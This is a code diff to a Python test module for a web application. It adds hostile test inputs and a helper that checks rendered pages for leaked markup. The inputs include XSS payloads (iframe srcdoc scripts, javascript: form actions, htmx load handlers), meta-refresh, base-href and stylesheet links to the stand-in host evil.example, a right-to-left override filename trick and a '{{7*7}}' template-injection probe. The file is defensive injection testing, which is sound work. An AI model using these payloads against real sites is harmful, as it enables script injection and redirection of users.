@@ -11,7 +11,13 @@ from typing import Final, cast
 
 from lxml import html
 
+from tests.run.case.kept import AT, add
 from tests.web.desk import REPORTS
+from whence.model.case import Judgement
+from whence.model.ledger import Comment, Opened
+from whence.store.ledger import Ledger, new_case
+from whence.store.protocol import Store
+from whence.store.sealing import Draft
 from whence.web.assets import assets
 
 PROBE: Final = "__pwned"
@@ -32,7 +38,8 @@ WORDS: Final = {
     "wounded": "wounded \u202egnp.exe\u2066 <x-pwned data-pwned=1 style='position:fixed;inset:0'>",
     "reporters": f"reporters <iframe srcdoc='<script>parent.{PROBE}=1</script>'></iframe>",
     "laboratory": f'laboratory <form action=//evil.example><button formaction="javascript:{_DO}">',
-    "separatists": "separatists <meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
+    "separatists": "separatists <meta http-equiv=refresh content='0;url=//evil.example'>",
+    "parts": "parts <base href=//evil.example><link rel=stylesheet href=//evil.example/a.css>",
     "diplomat": f"diplomat &#x3c;script&#x3e;{_DO}&lt;/script&gt; <math><mtext></math>",
     "Tolmere": f'Tolmere <div hx-get="/" hx-trigger="load" hx-on:load="{_DO}">',
 }
@@ -60,11 +67,33 @@ def hostile(folder: Path) -> Path:
     return folder
 
 
+def hostile_case(store: Store, folder: Path) -> Ledger:
+    """Return a read case of such reports, in which people and what they write attack as well."""
+    opening = Opened(name=f"{_IMAGE}\"'x{{{{7*7}}}}x", question=NAME)
+    ledger = new_case(store, opening, NAME, AT)
+    case = add(ledger, str(hostile(folder)))
+    spoken = [
+        Judgement(subject=one.id, verdict="accepted", by=NAME, at=AT, reason=NAME)
+        for one in case.reports[1].claims
+    ]
+    said = Comment(text=NAME, subject=case.documents[0].id)
+    later = ledger.head().at
+    ledger.append(
+        [
+            *(Draft(kind="judgement", author=NAME, at=later, payload=one) for one in spoken),
+            Draft(kind="comment", author=NAME, at=later, payload=said),
+        ]
+    )
+    return ledger
+
+
 def came_through(body: str) -> list[str]:
     """Return what of a page may have come from a report as more than text; none is right."""
     tree = html.fromstring(body)
     found = [f"a text that was worked out: {one}" for one in re.findall(r"x49x", body)]
-    found += [f"hidden order: {hex(ord(one))}" for one in re.findall("[\u202a-\u202e\u2066-\u2069]", body)]
+    found += [
+        f"hidden order: {hex(ord(one))}" for one in re.findall("[\u202a-\u202e\u2066-\u2069]", body)
+    ]
     for element in tree.iter():
         if isinstance(element.tag, str):
             found += _of(element)
